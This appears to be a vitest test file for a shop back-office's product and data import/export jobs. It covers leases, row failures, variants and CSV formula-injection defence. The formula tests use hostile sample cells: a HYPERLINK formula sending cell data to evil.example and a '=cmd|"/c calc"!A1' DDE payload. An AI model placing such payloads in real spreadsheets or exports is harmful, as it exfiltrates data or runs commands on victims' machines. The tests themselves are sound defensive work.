import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testApp, type TestApp } from '../../test/harness.js';
import { backOfficeSite, type BackOfficeSite } from '../../test/backoffice.js';
import { createProduct } from '../../test/commerce.js';
import { batches, IMPORT_BATCH } from './imports.js';
import * as store from './store.js';
import { siteContext, withTransaction } from '../../platform/context.js';
import { neutraliseCell, restoreCell } from '../../platform/csv-cells.js';

let t: TestApp;
let s: BackOfficeSite;

beforeAll(async () => {
  t = await testApp();
  s = await backOfficeSite(t);
});
afterAll(async () => t.close());

interface Job { id: string; status: string; total: number; processed: number; succeeded: number; failed: number; error?: string }

async function startImport(site: BackOfficeSite, body: Record<string, unknown>): Promise<Job> {
  const res = await t.app.inject({ method: 'POST', url: '/bodega/v1/import-jobs', headers: site.headers.owner, payload: body });
  expect(res.statusCode, res.body).toBe(200);
  return (res.json() as { job: Job }).job;
}

/** Polls the job until it ends, with a deadline (the job runs after the call answered). */
async function finished(site: BackOfficeSite, id: string): Promise<Job> {
  const deadline = Date.now() + 120_000;
  for (;;) {
    const res = await t.app.inject({ method: 'GET', url: `/bodega/v1/import-jobs/${id}`, headers: site.headers.owner });
    expect(res.statusCode, res.body).toBe(200);
    const job = (res.json() as { job: Job }).job;
    if (job.status === 'DONE' || job.status === 'FAILED') return job;
    if (Date.now() > deadline) throw new Error(`import ${id} still ${job.status} after 120 s`);
    // A short pause between reads, so the polling does not crowd out the job it waits for.
    await new Promise<void>((resolve) => setTimeout(resolve, 20));
  }
}

async function failures(site: BackOfficeSite, id: string): Promise<string[]> {
  const res = await t.app.inject({ method: 'GET', url: `/bodega/v1/import-jobs/${id}/failures.csv`, headers: site.headers.owner });
  expect(res.statusCode).toBe(200);
  expect(res.headers['content-type']).toContain('text/csv');
  return res.body.trim().split('\n');
}

async function productCount(site: BackOfficeSite): Promise<number> {
  const res = await t.app.inject({ method: 'POST', url: '/stores-reader/v1/products/query', headers: site.headers.owner, payload: { query: { paging: { limit: 1 } } } });
  return (res.json() as { totalResults: number }).totalResults;
}

describe('an import job\'s lease', () => {
  it('is on the database\'s clock and is the runner\'s token: a server whose clock runs ahead takes nothing, and after a lease runs out only its new holder may write a batch', async () => {
    const site = await backOfficeSite(t);
    const ahead = new Date(Date.now() + 30 * 24 * 60 * 60_000);
    const ctx = siteContext(t.db, site.site.siteId, () => ahead);
    const job = await store.insertJob(ctx, { jobId: `lease-${site.site.siteId}`, target: 'products', dataCollectionId: null, format: 'csv', content: 'name,price\nA,1.00\n', at: ahead });
    const first = await store.claimJob(ctx, job.jobId, 60_000);
    expect(first?.lease).toBeInstanceOf(Date);
    // A server whose clock is a month ahead (a test's, or a wrong one) neither sees it waiting nor takes it.
    expect((await store.waitingJobs(ctx, 1000)).map((w) => w.jobId)).not.toContain(job.jobId);
    expect(await store.claimJob(ctx, job.jobId, 60_000)).toBeUndefined();
    expect(await withTransaction(ctx, (tx) => store.holdJob(tx, job.jobId, first?.lease ?? new Date(0)))).toBe(true);
    // Its lease runs out (the server stopped): another takes it up, and the first may write no batch.
    await t.db.query(`UPDATE import_jobs SET lease_until = now() - interval '1 second' WHERE site_id = $1 AND job_id = $2`, [site.site.siteId, job.jobId]);
    const second = await store.claimJob(ctx, job.jobId, 60_000);
    expect(second?.lease).toBeInstanceOf(Date);
    expect(await withTransaction(ctx, (tx) => store.holdJob(tx, job.jobId, first?.lease ?? new Date(0)))).toBe(false);
    expect(await withTransaction(ctx, (tx) => store.holdJob(tx, job.jobId, second?.lease ?? new Date(0)))).toBe(true);
    await store.finishJob(ctx, job.jobId, 'FAILED', ahead, 'a test of leases');
  });
});

describe('importing products', () => {
  it('imports 497 of 500 rows and reports exactly the 3 bad ones with their row and reason', { timeout: 120_000 }, async () => {
    const site = await backOfficeSite(t);
    const rows = Array.from({ length: 500 }, (_, i) => `Item ${i + 1},${(i % 50) + 1}.99,SKU-${i + 1},${i % 7}`);
    rows[16] = 'Item 17,abc,SKU-17,1'; // row 17: a price that is no number
    rows[249] = ',5.00,SKU-250,1'; // row 250: no name
    rows[498] = 'Item 499,5.00,SKU-499,-3'; // row 499: negative stock
    const job = await startImport(site, { target: 'products', format: 'csv', content: `name,price,sku,quantity\n${rows.join('\n')}\n` });
    expect(job.status).toBe('QUEUED');
    const done = await finished(site, job.id);
    expect(done).toMatchObject({ status: 'DONE', total: 500, processed: 500, succeeded: 497, failed: 3 });
    expect(await productCount(site)).toBe(497);
    const lines = await failures(site, job.id);
    expect(lines[0]).toBe('row,error,name,price,sku,quantity');
    expect(lines.slice(1).map((l) => l.split(',')[0])).toEqual(['17', '250', '499']);
    expect(lines[1]).toContain('price');
    expect(lines[2]).toContain('name');
    expect(lines[3]).toContain('quantity');
    expect(lines[3].endsWith('Item 499,5.00,SKU-499,-3')).toBe(true);
  });

  it('round-trips the export: a changed price updates the product, collections by slug', async () => {
    const site = await backOfficeSite(t);
    await t.app.inject({ method: 'POST', url: '/stores/v1/collections', headers: site.headers.owner, payload: { collection: { name: 'Garden' } } });
    const hose = await createProduct(t.app, site.site, { name: 'Hose', priceData: { price: 20 } });
    const exported = (await t.app.inject({ method: 'GET', url: '/bodega/v1/exports/products.csv', headers: site.headers.owner })).body;
    const [row, ...more] = parse(exported, { columns: true }) as Record<string, string>[];
    expect(more).toHaveLength(0);
    expect(row).toMatchObject({ name: 'Hose', price: '20.00', inStock: 'true', collections: '', images: '', manageVariants: 'false', option1Name: '' });
    const changed = stringify([{ ...row, price: '24.50', collections: 'garden' }], { header: true });
    const job = await finished(site, (await startImport(site, { target: 'products', format: 'csv', content: changed })).id);
    expect(job, JSON.stringify(await failures(site, job.id))).toMatchObject({ status: 'DONE', succeeded: 1, failed: 0 });
    expect(await productCount(site)).toBe(1);
    const product = (await t.app.inject({ method: 'GET', url: `/stores-reader/v1/products/${hose.id}`, headers: site.headers.owner })).json() as { product: { priceData: { price: number }; collectionIds: string[] } };
    expect(product.product.priceData.price).toBe(24.5);
    expect(product.product.collectionIds).toHaveLength(2);
  });

  it('reads JSON, and fails a file it cannot read at all with the reason', async () => {
    const site = await backOfficeSite(t);
    const json = await finished(site, (await startImport(site, { target: 'products', format: 'json', content: JSON.stringify([{ name: 'From JSON', price: '3.00', visible: false }, { name: 'No price' }]) })).id);
    expect(json).toMatchObject({ status: 'DONE', succeeded: 1, failed: 1 });
    expect((await failures(site, json.id))[1]).toMatch(/^2,price: a new product needs a price/);
    const broken = await finished(site, (await startImport(site, { target: 'products', format: 'csv', content: 'name,price\n"unclosed,1\n' })).id);
    expect(broken.status).toBe('FAILED');
    expect(broken.error).toMatch(/CSV/);
  });

  it('numbers the slugs of repeated names, and fails a row whose own slug is taken', async () => {
    const site = await backOfficeSite(t);
    await createProduct(t.app, site.site, { name: 'Twin', priceData: { price: 1 } });
    const job = await finished(site, (await startImport(site, { target: 'products', format: 'csv', content: 'name,price,slug\nTwin,2,\nTwin,3,\nOther,4,twin\n' })).id);
    expect(job).toMatchObject({ status: 'DONE', succeeded: 2, failed: 1 });
    expect((await failures(site, job.id))[1]).toMatch(/^3,.*twin/);
    const res = await t.app.inject({ method: 'POST', url: '/stores-reader/v1/products/query', headers: site.headers.owner, payload: { query: { filter: JSON.stringify({ name: 'Twin' }) } } });
    expect((res.json() as { products: { slug: string }[] }).products.map((p) => p.slug).sort()).toEqual(['twin', 'twin-2', 'twin-3']);
  });

  it('round-trips a product with two options and its variants into a fresh site, one row per variant', async () => {
    const from = await backOfficeSite(t);
    await t.app.inject({ method: 'POST', url: '/stores/v1/collections', headers: from.headers.owner, payload: { collection: { name: 'Shirts' } } });
    const shirt = await createProduct(t.app, from.site, {
      name: 'Oxford Shirt', description: '<p>Cotton</p>', priceData: { price: 45 }, sku: 'OX', weight: 0.4, ribbon: 'New', brand: 'Bodega',
      discount: { type: 'PERCENT', value: 10 }, manageVariants: true, stock: { trackInventory: true },
      additionalInfoSections: [{ title: 'Care', description: 'Wash "cold", 30°C | line dry' }], customTextFields: [{ title: 'Monogram', maxLength: 3, mandatory: false }],
      productOptions: [
        { name: 'Size', optionType: 'drop_down', choices: [{ value: 'S', description: 'S' }, { value: 'M', description: 'M' }] },
        { name: 'Colour', optionType: 'color', choices: [{ value: 'White', description: '#ffffff' }, { value: 'Blue', description: '#1f4e9c' }] },
      ],
    });
    const variants = (await t.app.inject({ method: 'GET', url: `/stores-reader/v1/products/${shirt.id}`, headers: from.headers.owner })).json() as { product: { variants: { id: string; choices: Record<string, string> }[] } };
    const patch = variants.product.variants.map((v, i) => ({ choices: v.choices, price: 45 + i, sku: `OX-${v.choices.Size}-${v.choices.Colour}`, weight: 0.4 + i / 10, visible: i !== 3 }));
    expect((await t.app.inject({ method: 'PATCH', url: `/stores/v1/products/${shirt.id}/variants`, headers: from.headers.owner, payload: { variants: patch } })).statusCode).toBe(200);
    const stock = await t.app.inject({
      method: 'PATCH', url: `/stores/v2/inventoryItems/product/${shirt.id}`, headers: from.headers.owner,
      payload: { inventoryItem: { trackQuantity: true, variants: variants.product.variants.map((v, i) => ({ variantId: v.id, quantity: i * 3 })) } },
    });
    expect(stock.statusCode, stock.body).toBe(200);
    const shirts = (await t.app.inject({ method: 'POST', url: '/stores-reader/v1/products/query', headers: from.headers.owner, payload: { query: {} } })).json() as { products: { id: string; collectionIds: string[] }[] };
    expect(shirts.products).toHaveLength(1);
    const collectionId = ((await t.app.inject({ method: 'GET', url: '/v2/collections/slug/shirts', headers: from.headers.owner })).json() as { collection: { id: string } }).collection.id;
    await t.app.inject({ method: 'POST', url: `/stores/v1/collections/${collectionId}/productIds`, headers: from.headers.owner, payload: { productIds: [shirt.id] } });

    const exported = (await t.app.inject({ method: 'GET', url: '/bodega/v1/exports/products.csv', headers: from.headers.owner })).body;
    const rows = parse(exported, { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(4);
    expect(rows.map((r) => [r.option1Name, r.option1Value, r.option2Name, r.option2Value, r.variantPrice, r.variantQuantity])).toEqual([
      ['Size', 'S', 'Colour [color]', 'White [#ffffff]', '45.00', '0'],
      ['Size', 'S', 'Colour [color]', 'Blue [#1f4e9c]', '46.00', '3'],
      ['Size', 'M', 'Colour [color]', 'White [#ffffff]', '47.00', '6'],
      ['Size', 'M', 'Colour [color]', 'Blue [#1f4e9c]', '48.00', '9'],
    ]);
    expect(rows[1]).toMatchObject({ id: shirt.id, name: 'Oxford Shirt', slug: 'oxford-shirt', price: '', description: '' });

    const to = await backOfficeSite(t);
    await t.app.inject({ method: 'POST', url: '/stores/v1/collections', headers: to.headers.owner, payload: { collection: { name: 'Shirts' } } });
    const job = await finished(to, (await startImport(to, { target: 'products', format: 'csv', content: exported })).id);
    expect(job, (await failures(to, job.id)).join('\n')).toMatchObject({ status: 'DONE', total: 4, succeeded: 4, failed: 0 });
    const read = async (site: BackOfficeSite) => {
      const res = await t.app.inject({ method: 'POST', url: '/stores-reader/v1/products/query', headers: site.headers.owner, payload: { query: {} } });
      const [p] = (res.json() as { products: Record<string, unknown>[] }).products;
      const variantsOf = (p.variants as { id: string; choices: Record<string, string>; variant: Record<string, unknown>; stock: Record<string, unknown> }[]);
      const { id: _id, numericId: _n, lastUpdated: _l, createdDate: _c, inventoryItemId: _i, collectionIds, media: _m, ...rest } = p;
      return { ...rest, collections: (collectionIds as string[]).length, variants: variantsOf.map((v) => ({ choices: v.choices, variant: v.variant, stock: v.stock })) };
    };
    const original = await read(from);
    expect(await read(to)).toEqual(original);
    expect(original).toMatchObject({ manageVariants: true, collections: 2, additionalInfoSections: [{ title: 'Care' }], customTextFields: [{ title: 'Monogram', maxLength: 3 }], productOptions: [{ name: 'Size' }, { name: 'Colour', optionType: 'color', choices: [{ value: 'White', description: '#ffffff' }, { value: 'Blue', description: '#1f4e9c' }] }] });

    // Imported again into the site it came from: the same product is updated, nothing is added.
    const again = await finished(from, (await startImport(from, { target: 'products', format: 'csv', content: exported })).id);
    expect(again).toMatchObject({ status: 'DONE', succeeded: 4, failed: 0 });
    expect(await productCount(from)).toBe(1);
    expect(await read(from)).toEqual(original);
  });

  it("round-trips each choice's own visible and in-stock flags and each image's title and alt text", async () => {
    const from = await backOfficeSite(t);
    const mug = await createProduct(t.app, from.site, {
      name: 'Mug', priceData: { price: 12 },
      media: { items: [
        { image: { url: 'https://img.example/mug-front.jpg', altText: 'A white mug, handle right' }, title: 'Front | white' },
        { image: { url: 'https://img.example/mug-side.jpg' } },
        { image: { url: 'https://img.example/mug-box.jpg', altText: 'The box' }, title: 'Box' },
      ] },
      productOptions: [
        { name: 'Size', optionType: 'drop_down', choices: [{ value: 'S', description: 'S' }, { value: 'M', description: 'M', inStock: false }, { value: 'XL', description: 'XL', visible: false }] },
        { name: 'Glaze', optionType: 'color', choices: [{ value: 'Sea', description: '#1f4e9c', visible: false, inStock: false }, { value: 'Sand', description: '#e0c9a6' }] },
      ],
    });
    const exported = (await t.app.inject({ method: 'GET', url: '/bodega/v1/exports/products.csv', headers: from.headers.owner })).body;
    const rows = parse(exported, { columns: true }) as Record<string, string>[];
    expect(rows[0]).toMatchObject({
      images: 'https://img.example/mug-front.jpg|https://img.example/mug-side.jpg|https://img.example/mug-box.jpg',
      imageTitles: 'Front \\| white||Box', imageAltTexts: 'A white mug, handle right||The box',
      hiddenChoices: 'Size: XL|Glaze: Sea', outOfStockChoices: 'Size: M|Glaze: Sea',
    });
    expect(rows.slice(1).every((r) => r.hiddenChoices === '' && r.imageTitles === '')).toBe(true);

    const read = async (site: BackOfficeSite, id?: string) => {
      const res = id
        ? await t.app.inject({ method: 'GET', url: `/stores-reader/v1/products/${id}`, headers: site.headers.owner })
        : await t.app.inject({ method: 'POST', url: '/stores-reader/v1/products/query', headers: site.headers.owner, payload: { query: {} } });
      const body = res.json() as { product?: WireProduct; products?: WireProduct[] };
      const p = body.product ?? body.products?.[0];
      return {
        options: p?.productOptions.map((o) => ({ name: o.name, choices: o.choices.map((c) => ({ value: c.value, inStock: c.inStock, visible: c.visible })) })),
        media: p?.media.items.map((m) => ({ url: m.image.url, title: m.title, altText: m.image.altText })),
      };
    };
    type WireProduct = { productOptions: { name: string; choices: { value: string; inStock: boolean; visible: boolean }[] }[]; media: { items: { title?: string; image: { url: string; altText?: string } }[] } };
    const original = await read(from, mug.id);
    expect(original.options).toEqual([
      { name: 'Size', choices: [{ value: 'S', inStock: true, visible: true }, { value: 'M', inStock: false, visible: true }, { value: 'XL', inStock: true, visible: false }] },
      { name: 'Glaze', choices: [{ value: 'Sea', inStock: false, visible: false }, { value: 'Sand', inStock: true, visible: true }] },
    ]);
    expect(original.media?.map((m) => [m.title, m.altText])).toEqual([['Front | white', 'A white mug, handle right'], ['', undefined], ['Box', 'The box']]);

    const to = await backOfficeSite(t);
    const job = await finished(to, (await startImport(to, { target: 'products', format: 'csv', content: exported })).id);
    expect(job, (await failures(to, job.id)).join('\n')).toMatchObject({ status: 'DONE', succeeded: rows.length, failed: 0 });
    expect(await read(to)).toEqual(original);

    // Named choices that the product does not have, and more titles than images, fail the row with the column.
    const bad = await finished(to, (await startImport(to, { target: 'products', format: 'csv', content: [
      'name,price,option1Name,option1Value,hiddenChoices,images,imageTitles',
      'Cup,3,Size,S,Size: XXL,,',
      'Plate,4,,,,https://img.example/plate.jpg,One|Two',
    ].join('\n') })).id);
    const failed = parse((await failures(to, bad.id)).join('\n'), { columns: true }) as { row: string; error: string }[];
    expect(failed.map((f) => [f.row, f.error])).toEqual([
      ['1', 'hiddenChoices: "Size: XXL" is no Option: choice of this product'],
      ['2', 'imageTitles: 2 for 1 image'],
    ]);
  });

  it('fails a product whose variant rows are wrong, naming the row at fault and its siblings', async () => {
    const site = await backOfficeSite(t);
    const csv = [
      'name,price,option1Name,option1Value,option2Name,option2Value,variantPrice,variantQuantity',
      'Mug,10,Size,S,,,11,1',
      'Mug,,Size,M,,,abc,2', // row 2: a variant price that is no number
      'Cap,5,Size,S,Colour,Red,,',
      'Cap,,Size,S,Colour,Red,,', // row 4: the same variant twice
      'Hat,7,Size,S,,,,',
      'Hat,8,Size,M,,,,', // row 6: a product column that differs from the first row
      'Bag,9,Size,S,,,,',
      'Bag,,,,Colour,Red,,', // row 8: no choice of Size, and an option the first row does not name
      'Tee,12,Size,S,,,,3',
      'Tee,,Size,M,,,,4',
    ].join('\n');
    const job = await finished(site, (await startImport(site, { target: 'products', format: 'csv', content: csv })).id);
    expect(job).toMatchObject({ status: 'DONE', total: 10, succeeded: 2, failed: 8 });
    const failed = parse((await failures(site, job.id)).join('\n'), { columns: true }) as { row: string; error: string }[];
    expect(failed.map((f) => f.row)).toEqual(['1', '2', '3', '4', '5', '6', '7', '8']);
    expect(failed[1].error).toMatch(/^variantPrice/);
    expect(failed[0].error).toMatch(/^not imported: row 2 of the same product failed: variantPrice/);
    expect(failed[3].error).toMatch(/on row 3 already/);
    expect(failed[5].error).toMatch(/^price: a product's own columns go on its first row/);
    expect(failed[7].error).toMatch(/^option\dName: name the option|^option1Value/);
    const tee = (await t.app.inject({ method: 'POST', url: '/stores-reader/v1/products/query', headers: site.headers.owner, payload: { query: {} } })).json() as { products: { name: string; manageVariants: boolean; variants: { choices: Record<string, string>; stock: { quantity: number } }[] }[] };
    expect(tee.products.map((p) => p.name)).toEqual(['Tee']);
    expect(tee.products[0].manageVariants).toBe(true);
    expect(tee.products[0].variants.map((v) => [v.choices.Size, v.stock.quantity])).toEqual([['S', 3], ['M', 4]]);
  });

  it("keeps one site's job from another", async () => {
    const job = await startImport(s, { target: 'products', format: 'csv', content: 'name,price\nSolo,1\n' });
    const other = await backOfficeSite(t);
    const res = await t.app.inject({ method: 'GET', url: `/bodega/v1/import-jobs/${job.id}`, headers: other.headers.owner });
    expect(res.statusCode).toBe(404);
    await finished(s, job.id);
  });
});

describe('import batches', () => {
  it("never splits a product's variant rows between two batches, and resumes on a product's boundary", () => {
    const single = Array.from({ length: IMPORT_BATCH - 2 }, (_, i) => ({ name: `P${i}`, price: '1' }));
    const shirt = ['S', 'M', 'L', 'XL'].map((size) => ({ name: 'Shirt', price: '9', option1Name: 'Size', option1Value: size }));
    const rows = [...single, ...shirt, { name: 'Last', price: '2' }];
    const sizes = (processed: number) => [...batches('products', rows, processed)].map((b) => [b[0][0].row, b.flat().length, b.length]);
    expect(sizes(0)).toEqual([[1, IMPORT_BATCH - 2, IMPORT_BATCH - 2], [IMPORT_BATCH - 1, 5, 2]]);
    expect(sizes(IMPORT_BATCH - 2)).toEqual([[IMPORT_BATCH - 1, 5, 2]]);
    // The products come grouped: the shirt's four rows are one group.
    expect([...batches('products', rows, IMPORT_BATCH - 2)][0].map((group) => group.map((r) => r.row))).toEqual([[IMPORT_BATCH - 1, IMPORT_BATCH, IMPORT_BATCH + 1, IMPORT_BATCH + 2], [IMPORT_BATCH + 3]]);
    expect([...batches('data-items', rows, 0)].map((b) => b.flat().length)).toEqual([IMPORT_BATCH, 3]);
  });
});

describe('importing data-collection items', () => {
  it('converts cells to the field types and reports exactly the rows that do not fit', async () => {
    const site = await backOfficeSite(t);
    const created = await t.app.inject({
      method: 'POST', url: '/wix-data/v2/collections', headers: site.headers.owner,
      payload: { collection: { id: 'Plants', fields: [{ key: 'name', type: 'TEXT' }, { key: 'height', type: 'NUMBER' }, { key: 'indoor', type: 'BOOLEAN' }, { key: 'planted', type: 'DATE' }] } },
    });
    expect(created.statusCode, created.body).toBe(200);
    const rows = Array.from({ length: 500 }, (_, i) => `Plant ${i + 1},${i + 0.5},${i % 2 === 0},2026-01-${String((i % 28) + 1).padStart(2, '0')}`);
    rows[2] = 'Plant 3,tall,true,2026-01-03';
    rows[99] = 'Plant 100,1,maybe,2026-01-04';
    rows[399] = 'Plant 400,1,true,not a date';
    const job = await finished(site, (await startImport(site, { target: 'data-items', dataCollectionId: 'Plants', format: 'csv', content: `name,height,indoor,planted\n${rows.join('\n')}` })).id);
    expect(job, (await failures(site, job.id)).slice(0, 3).join('\n')).toMatchObject({ status: 'DONE', total: 500, succeeded: 497, failed: 3 });
    const failed = parse((await failures(site, job.id)).join('\n'), { columns: true }) as { row: string; error: string; height: string }[];
    expect(failed.map((f) => [f.row, f.error])).toEqual([
      ['3', 'height: "tall" is not a number'],
      ['100', 'indoor: "maybe" is not true or false'],
      ['400', 'planted: "not a date" is not a date'],
    ]);
    expect(failed[0].height).toBe('tall');
    const query = await t.app.inject({ method: 'POST', url: '/wix-data/v2/items/query', headers: site.headers.owner, payload: { dataCollectionId: 'Plants', query: { filter: { name: 'Plant 2' } }, returnTotalCount: true } });
    expect(query.json()).toMatchObject({ dataItems: [{ data: { name: 'Plant 2', height: 1.5, indoor: false } }] });
    const count = await t.app.inject({ method: 'POST', url: '/wix-data/v2/items/count', headers: site.headers.owner, payload: { dataCollectionId: 'Plants' } });
    expect(count.json()).toMatchObject({ totalCount: 497 });
  });

  it('refuses a collection that does not exist', async () => {
    const res = await t.app.inject({ method: 'POST', url: '/bodega/v1/import-jobs', headers: s.headers.owner, payload: { target: 'data-items', dataCollectionId: 'Nope', format: 'csv', content: 'a\n1' } });
    expect(res.statusCode).toBe(404);
  });
});

// ─── formulas: no export hands a spreadsheet a formula (OWASP: a cell beginning with =, +, -, @,
// tab or CR gets a leading '), and the import takes that quote off again, so a round trip is exact.

const FORMULA_NICKNAME = '=HYPERLINK("https://evil.example/?"&A1,"Click")';

async function importJob(body: Record<string, unknown>): Promise<Job> {
  return finished(s, (await startImport(s, body)).id);
}

describe('cells a spreadsheet would run', () => {
  it('are prefixed with a quote, plain negative numbers are not, and the import takes exactly that quote off', () => {
    const cases: [string, string][] = [
      ['=1+2', "'=1+2"], ['+1', "'+1"], ['-2+3', "'-2+3"], ['@SUM(A1)', "'@SUM(A1)"], ['\tx', "'\tx"], ['\rx', "'\rx"],
      ["'=1+2", "''=1+2"], ["''@x", "'''@x"], ['-5', '-5'], ['-0.25', '-0.25'], ['-', "'-"], ['- item', "'- item"],
      ["'quoted", "'quoted"], ['plain', 'plain'], ['', ''], ['a=b', 'a=b'],
    ];
    for (const [value, cell] of cases) {
      expect(neutraliseCell(value), JSON.stringify(value)).toBe(cell);
      expect(restoreCell(cell), JSON.stringify(cell)).toBe(value);
    }
  });
});

describe('a formula nickname in members.csv', () => {
  it('is exported as text, and re-imported (into a data collection) as the nickname it was', async () => {
    const created = await t.app.inject({
      method: 'POST', url: '/members/v1/members', headers: s.headers.apiKey,
      payload: { member: { loginEmail: `formula.${Date.now()}@example.com`, profile: { nickname: FORMULA_NICKNAME } } },
    });
    expect(created.statusCode, created.body).toBe(200);
    const memberId = (created.json() as { member: { id: string } }).member.id;

    const csvText = (await t.app.inject({ method: 'GET', url: '/bodega/v1/exports/members.csv', headers: s.headers.owner })).body;
    const rows = parse(csvText, { columns: true }) as Record<string, string>[];
    const row = rows.find((r) => r.id === memberId);
    expect(row?.nickname).toBe(`'${FORMULA_NICKNAME}`);
    // No cell of the file begins a formula.
    for (const r of rows) for (const value of Object.values(r)) expect(value, value).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);

    const collection = await t.app.inject({
      method: 'POST', url: '/wix-data/v2/collections', headers: s.headers.owner,
      payload: { collection: { id: 'MemberCopies', fields: [{ key: 'id', type: 'TEXT' }, { key: 'nickname', type: 'TEXT' }, { key: 'loginEmail', type: 'TEXT' }] } },
    });
    expect(collection.statusCode, collection.body).toBe(200);
    const job = await importJob({ target: 'data-items', dataCollectionId: 'MemberCopies', format: 'csv', content: csvText });
    expect(job).toMatchObject({ status: 'DONE', failed: 0 });
    const found = await t.app.inject({
      method: 'POST', url: '/wix-data/v2/items/query', headers: s.headers.owner,
      payload: { dataCollectionId: 'MemberCopies', query: { filter: { id: memberId } } },
    });
    expect(found.json().dataItems.map((i: { data: { nickname: string } }) => i.data.nickname)).toEqual([FORMULA_NICKNAME]);
  });
});

describe('a formula product name in products.csv', () => {
  it('round-trips exactly through export and import, and so does a name that begins with a quote', async () => {
    const mine = await backOfficeSite(t);
    for (const name of ['=cmd|"/c calc"!A1', "'+quoted"]) {
      await createProduct(t.app, mine.site, { name, priceData: { price: 5 } });
    }
    const csvText = (await t.app.inject({ method: 'GET', url: '/bodega/v1/exports/products.csv', headers: mine.headers.owner })).body;
    const rows = parse(csvText, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.name).sort()).toEqual(["''+quoted", '\'=cmd|"/c calc"!A1'].sort());

    // Into another site: the same file, read back.
    const other = await backOfficeSite(t);
    expect(await finished(other, (await startImport(other, { target: 'products', format: 'csv', content: csvText })).id)).toMatchObject({ status: 'DONE', succeeded: 2 });
    const res = await t.app.inject({ method: 'POST', url: '/stores-reader/v1/products/query', headers: other.headers.owner, payload: { query: {} } });
    const names = (res.json() as { products: { name: string }[] }).products.map((p) => p.name);
    expect(names.sort()).toEqual(["'+quoted", '=cmd|"/c calc"!A1'].sort());
  });
});

describe('the failed rows of an import', () => {
  it('come back with their formula cells neutralised', async () => {
    const job = await importJob({ target: 'products', format: 'csv', content: 'name,price\n"=2+5",not-a-price\n' });
    expect(job.failed).toBe(1);
    const res = await t.app.inject({ method: 'GET', url: `/bodega/v1/import-jobs/${job.id}/failures.csv`, headers: s.headers.owner });
    const [failed] = parse(res.body, { columns: true }) as Record<string, string>[];
    expect(failed).toMatchObject({ row: '1', name: "'=2+5", price: 'not-a-price' });
  });
});
